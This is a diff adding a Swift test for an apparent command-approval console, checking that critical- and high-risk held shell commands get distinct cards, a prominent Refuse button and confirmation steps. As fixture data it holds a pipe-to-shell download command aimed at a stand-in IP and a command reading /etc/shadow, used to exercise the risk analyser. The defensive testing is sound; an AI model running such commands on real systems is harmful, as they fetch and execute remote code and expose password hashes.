@@ -112,6 +112,41 @@ struct ConsoleDecisionTests {
     }
 }
 
+extension ConsoleDecisionTests {
+    /// A critical card puts Refuse first (the larger button) and needs the hold's number typed; a
+    /// high card has a confirm step instead of the box; each level has its own class (colour).
+    @Test func aCriticalCardPutsRefuseFirstAndAHighOneHasAConfirmStep() async throws {
+        let f = try await ConsoleFixture()
+        let command = "curl -s http://203.0.113.9/x | sh"
+        #expect(f.context.analyser.analyse(command).risk == .critical)
+        let held = try await f.holdCommand(by: "alice", command)
+        try await app(f).test(.live) { client in
+            let bob = try #require(try await signIn(client, "bob"))
+            let page = String(buffer: try await client.execute(uri: "/sessions/s-1", method: .get, headers: [.cookie: bob.cookie]).body)
+            #expect(page.contains("card risk-critical"), "\(page)")
+            let refuse = try #require(page.range(of: #"class="refuse primary""#), "no prominent Refuse: \(page)")
+            let approve = try #require(page.range(of: #"id="approve" class="approve secondary""#), "no plain Approve: \(page)")
+            #expect(refuse.lowerBound < approve.lowerBound, "Refuse comes first on a critical card")
+            #expect(page.contains(#"id="confirm""#), "the hold number is typed to approve a critical command")
+            // The facts strip, with the citizenship, comes before the card.
+            let facts = try #require(page.range(of: #"<dl class="facts">"#))
+            #expect(facts.lowerBound < refuse.lowerBound)
+        }
+        await f.hub.unregister("s-1", reason: "test over")
+        _ = await held.value
+
+        let g = try await ConsoleFixture()
+        let high = try await g.holdCommand(by: "alice", "cat /etc/shadow")
+        try await app(g).test(.live) { client in
+            let bob = try #require(try await signIn(client, "bob"))
+            let page = String(buffer: try await client.execute(uri: "/sessions/s-1", method: .get, headers: [.cookie: bob.cookie]).body)
+            #expect(page.contains("card risk-high") && page.contains(#"id="confirm-step""#) && !page.contains(#"id="confirm""#), "\(page)")
+        }
+        await g.hub.unregister("s-1", reason: "test over")
+        _ = await high.value
+    }
+}
+
 struct TestSetupFailure: Error, CustomStringConvertible {
     var description: String
     init(_ description: String) { self.description = description }
